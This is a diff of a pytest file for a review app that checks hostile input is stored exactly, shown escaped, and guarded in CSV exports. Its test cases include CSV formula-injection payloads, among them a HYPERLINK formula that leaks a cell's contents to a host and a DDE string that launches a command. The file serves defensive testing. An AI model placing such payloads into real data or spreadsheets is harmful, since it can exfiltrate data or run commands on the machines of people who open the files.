@@ -90,7 +90,7 @@ CASES = [
     bad("rating-true", "r", True, "", RATING_ERROR),
     bad("rating-huge", "r", 10**30, "", RATING_ERROR),
     Case("rating-nan", body=b'{"data": ["r", NaN, ""]}', expect="error", match=RATING_ERROR),
-    Case("rating-missing", ["r", 3], "error", "enough input values"),
+    Case("rating-missing", ["r", 3], "error", "needs 3 inputs"),
     Case("data-not-a-list", body=b'{"data": {"name": "r", "rating": 3}}', expect="error", match="valid list"),
     Case("body-not-json", body=b'{"data": ["r", 3, "', expect="error", match="JSON decode error"),
     # Lengths: counted in characters, the name after trimming.
@@ -132,7 +132,8 @@ CASES = [
     ok("formula-cr-first", "cr", "\r=1+1"),
     ok("formula-hyperlink", "link", '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Click me")'),
     ok("formula-dde", "dde", "=cmd|' /C calc'!A0"),
-    ok("formula-after-trim", "  =1+1", " =2+2 stays unguarded: it starts with a space"),
+    # Guarded too: spreadsheet imports may trim the spaces (the rule in shared/csv_export.py).
+    ok("formula-after-trim", "  =1+1", " =2+2 after a space"),
     # Not text at all.
     Case("comments-list", ["l", 3, ["x"]], "error", "must be text"),
     Case("name-number", [5, 3, ""], "error", "must be text"),
@@ -149,22 +150,24 @@ class Outcome:
     rows_after: list
     total_before: int
     total_after: int
-    shown_after: list  # the overview's table rows right after the call
+    shown_after: list  # the overview's list of reviews right after the call
+    tags_after: set  # every tag in that list (anything beyond LIST_TAGS came from someone's text)
 
 
 def rows(app: App) -> list[tuple]:
     conn = connect(app.data_dir / "reviews.db", readonly=True)
     try:
-        return conn.execute("SELECT id, created_at, name, review, comments FROM reviews ORDER BY id").fetchall()
+        return conn.execute("SELECT id, created_at, name, rating, comments FROM reviews ORDER BY id").fetchall()
     finally:
         conn.close()
 
 
-def overview(app: App) -> tuple[list, int]:
-    """The overview's latest-reviews rows and total, as any visitor's page gets them."""
+def overview(app: App) -> tuple[list, set, int]:
+    """The overview's latest reviews (and the tags of that list) and the total, as any visitor's page gets them."""
     result = gradio_api.overview(app.url)
     assert result.ok, result.error
-    return result.data[0]["data"], result.data[1]
+    shown, tags = gradio_api.latest_reviews(result.data[0])
+    return shown, tags, result.data[1]
 
 
 def send(url: str, body: bytes, client: httpx.Client) -> gradio_api.CallResult:
@@ -197,12 +200,12 @@ def outcomes(app) -> dict[str, Outcome]:
     results = {}
     with httpx.Client(timeout=30) as client:
         for case in CASES:
-            before, (_, total_before) = rows(app), overview(app)
+            before, (_, _, total_before) = rows(app), overview(app)
             r = send(app.url, case.request_body(), client)
             match = SAVED.search(str(r.data[0])) if r.ok and r.data else None
-            shown, total_after = overview(app)
+            shown, tags, total_after = overview(app)
             results[case.id] = Outcome(r.status, r.ok, r.error or "", int(match.group(1)) if match else None,
-                                       before, rows(app), total_before, total_after, shown)
+                                       before, rows(app), total_before, total_after, shown, tags)
     return results
 
 
@@ -224,23 +227,24 @@ def test_hostile_input_is_refused_or_stored_exactly(case, outcomes):
     assert out.total_after == out.total_before + 1
     new = [r for r in out.rows_after if r not in out.rows_before]
     assert len(new) == 1 and new[0][0] == out.review_id
-    _, _, name, rating, comments = new[0]
+    _, created_at, name, rating, comments = new[0]
     assert (name, rating, comments) == (case.stored_name, case.data[1], case.stored_comments)
     # The overview right after the call shows the literal strings (newest first, so it is on top).
-    assert out.shown_after[0][0] == out.review_id
-    row = out.shown_after[0]
-    assert (row[2], row[4]) == (case.stored_name, case.stored_comments)
+    assert out.tags_after <= gradio_api.LIST_TAGS, out.tags_after
+    top = out.shown_after[0]
+    assert (top.created_at, top.rating) == (created_at, case.data[1])
+    assert (top.name, top.comments) == (case.stored_name, case.stored_comments)
 
 
-def test_the_table_shows_names_and_comments_as_text(app):
-    """Gradio renders a "str" cell as text; "markdown" or "html" would render what people typed."""
+def test_the_list_shows_names_and_comments_as_text(app):
+    """The list is gr.HTML filled with text escaped on the server (web/review_list.py); its template
+    inserts nothing but that value, so no prop can carry someone's text in unescaped."""
     config = httpx.get(app.url + "/config", timeout=10).json()
-    tables = [c["props"] for c in config["components"] if c.get("props", {}).get("elem_id") == "latest"]
-    assert len(tables) == 1
-    datatype = tables[0]["datatype"]
-    headers = tables[0]["headers"]
-    assert datatype[headers.index("name")] == "str" and datatype[headers.index("comments")] == "str"
-    assert not {"markdown", "html"} & set(datatype)
+    lists = [c["props"] for c in config["components"] if c.get("props", {}).get("elem_id") == "latest"]
+    assert len(lists) == 1
+    assert lists[0]["html_template"] == "${value}"
+    shown, tags, _ = overview(app)
+    assert shown and tags <= gradio_api.LIST_TAGS, tags
 
 
 @pytest.fixture(scope="module")
@@ -256,7 +260,7 @@ def backup_csv(app, outcomes) -> tuple[pd.DataFrame, list[tuple]]:
     info = wait_until(backup, 30, 0.2, "a local backup with every stored case")
     conn = connect(info["location"], readonly=True)
     try:
-        db_rows = conn.execute("SELECT id, created_at, name, review, comments FROM reviews ORDER BY id").fetchall()
+        db_rows = conn.execute("SELECT id, created_at, name, rating, comments FROM reviews ORDER BY id").fetchall()
     finally:
         conn.close()
     frame = pd.read_csv(info["location"][:-3] + ".csv", keep_default_na=False, dtype=str)
@@ -271,15 +275,14 @@ def test_stored_input_reaches_the_csv_guarded(case, outcomes, backup_csv):
     assert len(row) == 1
     for column, value in (("name", case.stored_name), ("comments", case.stored_comments)):
         cell = row.iloc[0][column]
-        if value.startswith(("=", "+", "-", "@", "\t", "\r")):
-            assert cell == "'" + value
-        else:
-            assert cell == value
+        assert cell == guard_cell(value)
+        if value.lstrip(" ").startswith(("=", "+", "-", "@")) or value.startswith(("\t", "\r")):
+            assert cell == "'" + value  # the rule itself, not only its own implementation
 
 
 def test_csv_read_back_with_pandas_equals_the_snapshot(backup_csv):
     frame, db_rows = backup_csv
-    assert list(frame.columns) == ["id", "created_at", "name", "review", "comments"]
+    assert list(frame.columns) == ["id", "created_at", "name", "rating", "comments"]
     expected = [[str(i), created, guard_cell(name), str(rating), guard_cell(comments)]
                 for i, created, name, rating, comments in db_rows]
     assert frame.values.tolist() == expected
